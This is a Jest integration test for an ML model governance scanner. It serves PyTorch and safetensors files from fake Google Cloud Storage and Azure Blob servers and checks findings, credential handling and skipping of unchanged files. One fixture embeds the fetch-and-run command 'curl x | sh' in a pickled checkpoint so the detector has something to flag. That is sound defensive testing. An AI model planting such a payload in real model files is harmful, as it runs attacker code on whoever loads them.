import { mockCredentials } from '@backstage/backend-test-utils';
import type { Entity } from '@backstage/catalog-model';
// eslint-disable-next-line @backstage/no-forbidden-package-imports -- the scanner's protocol stand-ins; tests only
import {
  sparseSafetensors,
  sparseTorchZip,
  startFakeAzure,
  startFakeGcs,
  torchStateDictPickle,
  type FakeAzure,
  type FakeGcs,
} from '@ml-governance/scanner/src/test-support/remote';
import request from 'supertest';
import { ALICE, startMlGovernanceBackend } from '../__testUtils__/testBackend';

jest.setTimeout(90_000);

const FAR = { frequency: { hours: 24 }, timeout: { minutes: 5 } };
const GiB = 1024 ** 3;
const KEY = Buffer.from('portal test account key').toString('base64');
let gcs: FakeGcs;
let azure: FakeAzure;

beforeAll(async () => {
  const checkpoint = sparseTorchZip(
    torchStateDictPickle(60, 100, 'curl x | sh'),
    1.1 * GiB,
    60,
  );
  gcs = await startFakeGcs(
    { 'ml-models': { 'fraud/model.pt': checkpoint } },
    { token: 'ya29.portal' },
  );
  azure = await startFakeAzure({
    mlstore: {
      key: KEY,
      containers: {
        models: {
          'llm/model.safetensors': sparseSafetensors(1.1 * GiB, 100),
          'llm/pytorch_model.bin': checkpoint,
        },
      },
    },
  });
});
afterAll(async () => {
  await gcs.close();
  await azure.close();
});

const entity = (name: string, target: string): Entity => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Resource',
  metadata: {
    name,
    namespace: 'default',
    annotations: { 'ml-governance.io/artifacts': target },
  },
  spec: { type: 'ai-model', owner: 'group:default/fraud' },
});

async function findings(server: unknown, name: string) {
  const response = await request(server as never)
    .get(`/api/ml-governance/entities/resource/default/${name}/findings`)
    .set('Authorization', mockCredentials.user.header(ALICE));
  return response.body.items as {
    target: string;
    ruleId: string;
    severity: string;
    message: string;
  }[];
}

describe('Cloud Storage and Azure Blob sources in the backend', () => {
  it('scans gs:// and Blob service URLs with credentials from config, refuses what config does not name, and skips unchanged listings', async () => {
    const harness = await startMlGovernanceBackend({
      entities: [
        entity('gcs-model', 'gs://ml-models/fraud/'),
        entity(
          'azure-model',
          'https://mlstore.blob.core.windows.net/models/llm',
        ),
        entity('azure-unconfigured', 'az://otherstore/models/llm'),
        // A SAS token in an annotation is not a credential source: the URL is not claimed at all.
        entity(
          'azure-sas-in-annotation',
          'https://mlstore.blob.core.windows.net/models/llm?sv=2021-08-06&sig=abc',
        ),
      ],
      allowedFileRoots: [],
      rootConfig: {
        mlGovernance: {
          schedule: FAR,
          reports: { schedule: FAR },
          sources: {
            gcs: { endpoint: gcs.origin, token: 'ya29.portal' },
            azure: {
              accounts: {
                mlstore: {
                  accountKey: KEY,
                  endpoint: `${azure.origin}/mlstore`,
                },
              },
            },
          },
        },
      },
    });
    try {
      await harness.runTask('ml-governance-scan-round');
      const gcsBytes = gcs.served.body;
      const azureBytes = azure.served.body;
      expect(gcsBytes).toBeGreaterThan(0);
      expect(gcsBytes).toBeLessThan(1.1 * 1_000_000);
      expect(azureBytes).toBeLessThan(2.2 * 1_000_000);
      for (const [name, target] of [
        ['gcs-model', 'gs://ml-models/fraud/'],
        ['azure-model', 'https://mlstore.blob.core.windows.net/models/llm'],
      ]) {
        expect(await findings(harness.server, name)).toContainEqual(
          expect.objectContaining({
            target,
            severity: 'critical',
            message: expect.stringContaining('os.system'),
          }),
        );
      }
      expect(
        await findings(harness.server, 'azure-unconfigured'),
      ).toContainEqual(
        expect.objectContaining({
          message: expect.stringContaining(
            'storage account otherstore is not configured',
          ),
        }),
      );
      for (const name of ['azure-unconfigured', 'azure-sas-in-annotation']) {
        const items = await findings(harness.server, name);
        expect(items.length).toBeGreaterThan(0);
        expect(items.every(f => f.severity !== 'info')).toBe(true);
      }
      expect(azure.served.log.some(entry => entry.url.includes('sig='))).toBe(
        false,
      );

      harness.clock.now = new Date(harness.clock.now.getTime() + 30 * 60_000);
      await harness.runTask('ml-governance-scan-round');
      expect(gcs.served.body).toBe(gcsBytes);
      expect(azure.served.body).toBe(azureBytes);
      const scans = await request(harness.server)
        .get('/api/ml-governance/entities/resource/default/azure-model/scans')
        .set('Authorization', mockCredentials.user.header(ALICE));
      expect(
        scans.body
          .map(
            (run: { targets: { status: string }[] }) => run.targets[0]?.status,
          )
          .sort(),
      ).toEqual(['scanned', 'unchanged']);
    } finally {
      await harness.stop();
    }
  });
});
